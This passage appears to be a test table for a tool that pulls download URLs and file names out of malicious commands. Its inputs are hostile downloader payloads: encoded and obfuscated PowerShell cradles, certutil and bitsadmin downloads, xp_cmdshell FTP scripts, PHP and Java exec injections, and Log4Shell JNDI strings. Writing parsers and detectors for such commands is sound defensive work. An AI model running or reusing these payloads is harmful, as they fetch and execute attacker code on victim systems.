    windows_downloaders_02_powershell_new_object_system: b"powershell.exe (New-Object System.Net.WebClient).DownloadFile(\'http://198.51.100.20/b.exe\',\'C:\\Users\\Public\\svc.exe\');Start-Process \'C:\\Users\\Public\\svc.exe\'" => ["http 198.51.100.20 - - - /b.exe svc.exe"];
    windows_downloaders_03_powershell_invoke_webrequest_uri: b"powershell Invoke-WebRequest -Uri http://198.51.100.20/c.exe -OutFile $env:TEMP\\c1.exe" => ["http 198.51.100.20 - - - /c.exe c1.exe"];
    windows_downloaders_04_powershell_iwr_outf_d2: b"powershell iwr http://198.51.100.20/d.exe -outf d2.exe" => ["http 198.51.100.20 - - - /d.exe d2.exe"];
    windows_downloaders_05_start_bitstransfer_source_destination: b"Start-BitsTransfer -Source http://198.51.100.20/e.exe -Destination C:\\e2.exe" => ["http 198.51.100.20 - - - /e.exe e2.exe"];
    windows_downloaders_06_certutil_urlcache_split_f2: b"certutil.exe -urlcache -split -f http://198.51.100.20/f.exe c:\\f2.exe & c:\\f2.exe" => ["http 198.51.100.20 - - - /f.exe f2.exe"];
    windows_downloaders_07_bitsadmin_transfer_job_download: b"bitsadmin /transfer job /download /priority high http://198.51.100.20/g.exe C:\\g2.exe" => ["http 198.51.100.20 - - - /g.exe g2.exe"];
    windows_downloaders_08_powershell_nop_noni_hidden: b"powershell.exe -NoP -NonI -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMQAvAGUAbgBjAC4AcABzADEAJwApAA==" => ["http 198.51.100.21 - - - /enc.ps1 enc.ps1"];
    windows_downloaders_09_powershell_nop_noni_hidden: b"powershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMQAvAGUAbgBjAC4AcABzADEAJwApAA==" => ["http 198.51.100.21 - - - /enc.ps1 enc.ps1"];
    windows_downloaders_10_powershell_nop_noni_hidden: b"powershell.exe -NoP -NonI -W Hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMQAvAGUAbgBjAC4AcABzADEAJwApAA==" => ["http 198.51.100.21 - - - /enc.ps1 enc.ps1"];
    windows_downloaders_11_powershell_nop_noni_hidden: b"powershell.exe -NoP -NonI -W Hidden -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMQAvAGUAbgBjAC4AcABzADEAJwApAA==" => ["http 198.51.100.21 - - - /enc.ps1 enc.ps1"];
    inline_echo_ne_hex_chunks: b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .s\r\n/bin/busybox echo -ne '\\x01\\x00\\x00' >> .s\r\n/bin/busybox chmod 777 .s; ./.s > dvrHelper\r\n" => ["inline .s 9"];
    inline_printf_octal_truncate_and_append: b"printf 'junk' > /tmp/b; printf '\\177ELF\\001' > /tmp/b; printf '\\x41' >> /tmp/b" => ["inline b 6"];
    inline_echo_e_octal_zero_prefix: b"echo -e '\\0177ELF' >> x.bin" => ["inline x.bin 5"];
    literal_xp_cmdshell_ftp_script_one_line_each: b"EXEC master.dbo.xp_cmdshell 'echo open 192.0.2.50 >c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo user a b>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo get q.exe>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'ftp -n -s:c:\\f.txt'" => ["ftp 192.0.2.50 - a b q.exe q.exe"];
    literal_xp_cmdshell_quote_glued_to_echo: b"EXEC master..xp_cmdshell 'echo open 192.0.2.51 > f&echo user a b>>f&echo get x.exe>>f&ftp -s:f'" => ["ftp 192.0.2.51 - a b x.exe x.exe"];
    literal_xp_cmdshell_doubled_quotes_powershell: b"EXEC xp_cmdshell N'powershell -c \"(New-Object Net.WebClient).DownloadFile(''http://192.0.2.59/d.exe'',''C:\\d2.exe'')\"'" => ["http 192.0.2.59 - - - /d.exe d2.exe"];
    literal_bash_c_escaped_quotes: b"bash -c \"curl -o \\\"/tmp/bb\\\" http://192.0.2.52/b\"" => ["http 192.0.2.52 - - - /b bb"];
    literal_sh_c_single_quotes: b"sh -c 'wget http://192.0.2.61/s -O /tmp/ss'" => ["http 192.0.2.61 - - - /s ss"];
    literal_json_value_escapes: b"{\"cmd\":\"wget -O \\\"/tmp/x\\\" http:\\/\\/192.0.2.53\\/y; sh /tmp/x\"}" => ["http 192.0.2.53 - - - /y x"];
    literal_powershell_command_escaped_quotes: b"powershell -nop -w hidden -command \"iwr http://192.0.2.54/pw.exe -OutFile \\\"C:\\Users\\Public\\pw2.exe\\\"\"" => ["http 192.0.2.54 - - - /pw.exe pw2.exe"];
    literal_php_passthru: b"<?php passthru(\"wget -O \\\"/tmp/pp\\\" http://192.0.2.55/p\"); ?>" => ["http 192.0.2.55 - - - /p pp"];
    literal_php_system_single_quotes: b"<?php system('tftp -g -r t.sh -l /tmp/t2 192.0.2.62'); ?>" => ["tftp 192.0.2.62 - - - t.sh t2"];
    literal_java_runtime_exec: b"Runtime.getRuntime().exec(\"curl -o \\\"/tmp/jj\\\" http://192.0.2.56/j\")" => ["http 192.0.2.56 - - - /j jj"];
    literal_spel_runtime_exec: b"${T(java.lang.Runtime).getRuntime().exec(\"curl -o /tmp/sp http://192.0.2.63/s\")}" => ["http 192.0.2.63 - - - /s sp"];
    literal_python_os_system: b"import os;os.system('wget -O /tmp/oo http://192.0.2.57/o')" => ["http 192.0.2.57 - - - /o oo"];
    literal_xml_cmd_c_entities: b"<string>cmd /c \"echo open 192.0.2.58&gt;s&amp;echo get w.exe&gt;&gt;s&amp;ftp -A -s:s\"</string>" => ["ftp 192.0.2.58 - - - w.exe w.exe"];
    literal_curl_cookie_jar_is_no_runner: b"curl -c 'jar' http://192.0.2.64/cc" => ["http 192.0.2.64 - - - /cc cc"];
    jndi_base64_command_in_header: b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.70:1389/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi43My9sNGouc2ggLU8gL3RtcC9rOyBzaCAvdG1wL2s=}\r\n\r\n" => ["http 192.0.2.73 - - - /l4j.sh k"];
    jndi_obfuscated_lower_and_defaults: b"User-Agent: ${${lower:j}${::-n}di:${env:x:-l}dap://192.0.2.70/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi43My9sNGouc2ggLU8gL3RtcC9rOyBzaCAvdG1wL2s=}\r\n" => ["http 192.0.2.73 - - - /l4j.sh k"];
    jndi_percent_encoded_in_header: b"Referer: %24%7Bjndi%3Aldap%3A%2F%2F192.0.2.70%2FBasic%2FCommand%2FBase64%2FY3VybCAtbyAvdG1wL3EgaHR0cDovLzE5Mi4wLjIuNzQvcQ%3D%3D%7D\r\n" => ["http 192.0.2.74 - - - /q q"];
    jndi_reverse_shell_path_fetches_nothing: b"${jndi:ldap://192.0.2.70:1389/Basic/ReverseShell/192.0.2.9/4444}" => [];
    built_shell_variable_and_braces: b"u=http://192.0.2.80; wget $u/x; curl ${u}/y" => ["http 192.0.2.80 - - - / index.html", "http 192.0.2.80 - - - /x x", "http 192.0.2.80 - - - /y y"];
    built_shell_export_quoted_host_and_port: b"export H=\"192.0.2.85\"; P=8080; wget http://$H:$P/bins/a -O /tmp/q" => ["http 192.0.2.85 8080 - - /bins/a q"];
    built_shell_for_loop_over_literal_list: b"U=http://192.0.2.81/b; for a in arm mips; do wget $U.$a -O /tmp/$a; done" => ["http 192.0.2.81 - - - /b b", "http 192.0.2.81 - - - /b.arm arm", "http 192.0.2.81 - - - /b.mips mips"];
    built_cmd_set_and_percent_variable: b"cmd /c \"set u=http://192.0.2.82/c.exe&& certutil -urlcache -f %u% c2.exe\"" => ["http 192.0.2.82 - - - /c.exe c2.exe"];
    built_cmd_caret_escapes: b"cmd /c c^e^r^t^u^t^i^l -urlcache -f http://192.0.2.86/d.exe d2.exe" => ["http 192.0.2.86 - - - /d.exe d2.exe"];
    built_powershell_variables_and_plus: b"powershell -c \"$h='192.0.2.83'; $u='http://'+$h+'/e.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)\"" => ["http 192.0.2.83 - - - /e.ps1 e.ps1"];
    built_powershell_join: b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString(('ht','tp://192.0.2.87/f.ps1') -join '')\"" => ["http 192.0.2.87 - - - /f.ps1 f.ps1"];
    built_powershell_format_operator: b"powershell -c \"(New-Object Net.WebClient).DownloadFile(('{0}://{1}/g.exe' -f 'http','192.0.2.88'),'C:\\g2.exe')\"" => ["http 192.0.2.88 - - - /g.exe g2.exe"];
    built_powershell_char_list_and_backticks: b"powershell -c \"$x=[char[]](104,116,116,112,58,47,47) -join ''; i`wr ($x+'192.0.2.84/h.exe') -OutFile h2.exe\"" => ["http 192.0.2.84 - - - /h.exe h2.exe"];
    built_powershell_char_cast_plus: b"powershell Ne`w-Obj`ect Net.WebClient).DownloadFile([char]104+'ttp://192.0.2.89/i.exe', 'i2.exe')" => ["http 192.0.2.89 - - - /i.exe i2.exe"];
    built_target_variables_stay_unknown: b"wget http://192.0.2.90/$ARCH -O $HOME/z" => ["http 192.0.2.90 - - - /$ARCH z"];
}
